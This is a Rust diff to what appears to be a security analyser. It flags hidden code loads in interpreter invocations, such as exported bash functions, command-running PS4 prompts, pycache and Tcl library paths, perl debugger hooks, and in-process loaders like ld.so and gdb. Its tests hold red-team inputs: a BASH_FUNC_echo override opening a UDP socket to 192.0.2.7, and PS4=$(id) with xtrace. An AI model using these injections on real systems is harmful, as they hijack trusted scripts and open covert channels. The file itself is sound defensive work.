@@ -106,6 +106,9 @@ pub enum LoadTarget {
     Dir(String),
     /// A module or library name the interpreter searches for.
     Module(String),
+    /// Code with no file to judge (an exported shell function, a prompt that runs
+    /// command substitutions, a debugger hook): what it does, never trusted.
+    Code(String),
 }
 
 fn load(via: &str, target: LoadTarget) -> CodeLoad {
@@ -257,7 +260,7 @@ pub fn analyze(exe_path: &str, argv: &[String], cwd: &str) -> Option<ScriptInvoc
             "node" => node(args, &mut extras),
             "php" => php(args),
             "tclsh" => tcl(args),
-            "sh" | "bash" | "dash" | "zsh" | "ksh" => shell(interpreter, args),
+            "sh" | "bash" | "dash" | "zsh" | "ksh" => shell(interpreter, args, &mut extras),
             "osascript" => osascript(args),
             "pwsh" => pwsh(args),
             "swift" => swift(exe_path, args)?,
@@ -453,6 +456,20 @@ fn python(args: &[String], extras: &mut Extras) -> Source {
                                 from_cwd: !safe_path,
                             }
                         }
+                        // Every module's bytecode is then read from that tree: a forged
+                        // .pyc with the source's mtime and size runs instead of it.
+                        'X' => {
+                            if let Some(dir) = value
+                                .as_deref()
+                                .and_then(|v| v.strip_prefix("pycache_prefix="))
+                            {
+                                extras.loads.push(load(
+                                    "python -X pycache_prefix",
+                                    LoadTarget::Dir(dir.into()),
+                                ));
+                            }
+                            break;
+                        }
                         _ => break,
                     }
                 }
@@ -516,7 +533,8 @@ fn perl(args: &[String], extras: &mut Extras) -> Source {
                     }
                     break;
                 }
-                // `-d:Mod` runs the debugger module Devel::Mod.
+                // `-d:Mod` runs the debugger module Devel::Mod; plain `-d` (`-dt`) runs
+                // perl5db.pl, which evals PERL5DB and reads ~/.perldb and ./.perldb.
                 'd' => {
                     if let Some(name) = after(cluster, pos, c).strip_prefix(':') {
                         if let Some(module) = perl_module_name(name) {
@@ -525,6 +543,13 @@ fn perl(args: &[String], extras: &mut Extras) -> Source {
                                 LoadTarget::Module(format!("Devel::{module}")),
                             ));
                         }
+                    } else {
+                        extras.loads.push(load(
+                            "perl -d",
+                            LoadTarget::Code(
+                                "the debugger runs PERL5DB and the user's .perldb files".into(),
+                            ),
+                        ));
                     }
                     break;
                 }
@@ -1016,6 +1041,29 @@ pub fn environment_loads(interpreter: &str, env: &[String], python: &PythonFlags
             }
             ("bash" | "sh", "BASH_ENV") => out.push(load(key, LoadTarget::File(value.to_owned()))),
             (_, "ENV") if shell => out.push(load(key, LoadTarget::File(value.to_owned()))),
+            // bash imports `BASH_FUNC_<name>%%=() {…}` as functions, which take the
+            // place of the commands and builtins a script runs.
+            ("bash" | "sh", _) if key.starts_with("BASH_FUNC_") => out.push(load(
+                key,
+                LoadTarget::Code("an exported function replaces a command the script runs".into()),
+            )),
+            // PS4 is expanded for every traced command (`set -x`, SHELLOPTS=xtrace):
+            // command substitutions in it run. The default `+ ` expands nothing.
+            (_, "PS4") if shell && value.contains(['$', '`']) => out.push(load(
+                key,
+                LoadTarget::Code("a trace prompt that expands, and so can run commands".into()),
+            )),
+            ("python", "PYTHONPYCACHEPREFIX") if !python.ignore_environment => {
+                out.push(load(key, LoadTarget::Dir(value.to_owned())))
+            }
+            // Tcl sources $TCL_LIBRARY/init.tcl at startup and `package require`
+            // searches TCLLIBPATH (a Tcl list: whitespace-separated).
+            ("tclsh", "TCL_LIBRARY") => out.push(load(key, LoadTarget::Dir(value.to_owned()))),
+            ("tclsh", "TCLLIBPATH") => {
+                for dir in value.split_ascii_whitespace() {
+                    out.push(load(key, LoadTarget::Dir(dir.to_owned())));
+                }
+            }
             _ => {}
         }
     }
@@ -1069,6 +1117,29 @@ pub fn in_package_location(path: &str) -> bool {
                 .strip_prefix(root)
                 .is_some_and(|tail| tail.starts_with('/'))
     })
+}
+
+/// Why a program runs code other than its own file inside its process (a program
+/// loader, an emulator, a debugger with an embedded interpreter), or `None`. Such a
+/// process is never trusted for its executable's signature alone.
+pub fn in_process_runner(exe_path: &str) -> Option<&'static str> {
+    let base = basename(exe_path);
+    if base == "ld.so"
+        || base.starts_with("ld64.so")
+        || (base.starts_with("ld-") && base.contains(".so"))
+    {
+        return Some("the dynamic loader runs the program named in its arguments in this process");
+    }
+    if exe_path.contains("/valgrind/") && base.ends_with("-linux") {
+        return Some("a valgrind tool runs the program named in its arguments in this process");
+    }
+    if base.starts_with("qemu-") {
+        return Some("qemu runs guest code in this process");
+    }
+    if base == "gdb" || base.starts_with("gdb-") {
+        return Some("gdb runs python and guile code from its options and the user's .gdbinit");
+    }
+    None
 }
 
 /// One directory of python's `sys.path` and why it is there.
@@ -1419,7 +1490,7 @@ fn tcl(args: &[String]) -> Source {
 
 /// POSIX sh, bash, dash, zsh, ksh: `sh [-abCefhimnuvx] [-o opt] [-c cmd [name [args]]
 /// | -s [args] | file [args]]`; `-c` is a flag and the command is the first operand.
-fn shell(interpreter: &str, args: &[String]) -> Source {
+fn shell(interpreter: &str, args: &[String], extras: &mut Extras) -> Source {
     let mut command = false;
     let mut stdin = false;
     let mut i = 0;
@@ -1431,7 +1502,16 @@ fn shell(interpreter: &str, args: &[String]) -> Source {
         }
         if let Some(long) = arg.strip_prefix("--") {
             match long {
-                "rcfile" | "init-file" | "emulate" => i += 1,
+                "rcfile" | "init-file" => {
+                    i += 1;
+                    if let Some(rc) = args.get(i) {
+                        extras.loads.push(load(
+                            &format!("{interpreter} --{long}"),
+                            LoadTarget::File(rc.clone()),
+                        ));
+                    }
+                }
+                "emulate" => i += 1,
                 "help" | "version" => return Source::Interactive,
                 _ => {}
             }
@@ -2878,6 +2958,106 @@ mod tests {
             "/w",
         );
         assert_eq!(inv.kind, ScriptKind::Inline);
+    }
+
+    #[test]
+    fn hooks_with_no_file_and_cache_or_library_trees_are_loads() {
+        use LoadTarget::*;
+        let vias =
+            |loads: Vec<CodeLoad>| -> Vec<String> { loads.into_iter().map(|l| l.via).collect() };
+        let none = PythonFlags::default();
+        // Red team: an exported function in place of `echo` inside /usr/bin/ldd; a
+        // trace prompt with a command substitution; forged bytecode; Tcl's init.tcl.
+        let shell_env = [
+            "BASH_FUNC_echo%%=() {  exec 3<>/dev/udp/192.0.2.7/53; }",
+            "PS4=$(id)",
+            "SHELLOPTS=xtrace",
+        ]
+        .map(String::from);
+        assert_eq!(
+            vias(environment_loads("bash", &shell_env, &none)),
+            ["BASH_FUNC_echo%%", "PS4"]
+        );
+        assert!(environment_loads("bash", &shell_env, &none)
+            .iter()
+            .all(|l| matches!(l.target, Code(_))));
+        // Benign: the default prompt, plain variables.
+        let plain = ["PS4=+ ", "SHELLOPTS=braceexpand", "HOME=/h"].map(String::from);
+        assert!(environment_loads("bash", &plain, &none).is_empty());
+        let py = ["PYTHONPYCACHEPREFIX=/home/u/pc".to_owned()];
+        assert_eq!(
+            environment_loads("python", &py, &none)[0].target,
+            Dir("/home/u/pc".into())
+        );
+        let ignore = PythonFlags {
+            ignore_environment: true,
+            ..Default::default()
+        };
+        assert!(environment_loads("python", &py, &ignore).is_empty());
+        let tcl = ["TCL_LIBRARY=/home/u/tcl", "TCLLIBPATH=/a /b"].map(String::from);
+        assert_eq!(
+            environment_loads("tclsh", &tcl, &none)
+                .into_iter()
+                .map(|l| l.target)
+                .collect::<Vec<_>>(),
+            [
+                Dir("/home/u/tcl".into()),
+                Dir("/a".into()),
+                Dir("/b".into())
+            ]
+        );
+        // Options: perl -d (PERL5DB, .perldb), python -X pycache_prefix, bash --rcfile.
+        assert!(matches!(
+            loads_of("/usr/bin/perl", &["perl", "-d", "/usr/bin/json_pp"])[..],
+            [(ref via, Code(_))] if via == "perl -d"
+        ));
+        assert_eq!(
+            loads_of("/usr/bin/perl", &["perl", "-d:NYTProf", "x.pl"]),
+            [("perl -d:".to_owned(), Module("Devel::NYTProf".into()))]
+        );
+        assert_eq!(
+            loads_of(
+                "/usr/bin/python3.11",
+                &["python3", "-X", "pycache_prefix=/h/pc", "-m", "json.tool"]
+            ),
+            [("python -X pycache_prefix".to_owned(), Dir("/h/pc".into()))]
+        );
+        assert!(loads_of(
+            "/usr/bin/python3.11",
+            &["python3", "-X", "importtime", "x.py"]
+        )
+        .is_empty());
+        assert_eq!(
+            loads_of("/usr/bin/bash", &["bash", "--rcfile", "/h/rc", "-i"]),
+            [("bash --rcfile".to_owned(), File("/h/rc".into()))]
+        );
+    }
+
+    #[test]
+    fn programs_that_run_other_code_in_their_process_are_named() {
+        for exe in [
+            "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2",
+            "/lib64/ld-linux-x86-64.so.2",
+            "/lib/ld-musl-x86_64.so.1",
+            "/lib64/ld64.so.2",
+            "/usr/libexec/valgrind/memcheck-amd64-linux",
+            "/usr/bin/qemu-x86_64-static",
+            "/usr/bin/gdb",
+            "/usr/bin/gdb-multiarch",
+        ] {
+            assert!(in_process_runner(exe).is_some(), "{exe}");
+        }
+        for exe in [
+            "/usr/bin/ldd",
+            "/usr/bin/ld",
+            "/usr/bin/ldconfig",
+            "/usr/bin/python3.11",
+            "/usr/bin/valgrind",
+            "/usr/bin/gdbus",
+            "/usr/lib/x86_64-linux-gnu/libc.so.6",
+        ] {
+            assert!(in_process_runner(exe).is_none(), "{exe}");
+        }
     }
 
     fn loads_of(exe: &str, args: &[&str]) -> Vec<(String, LoadTarget)> {
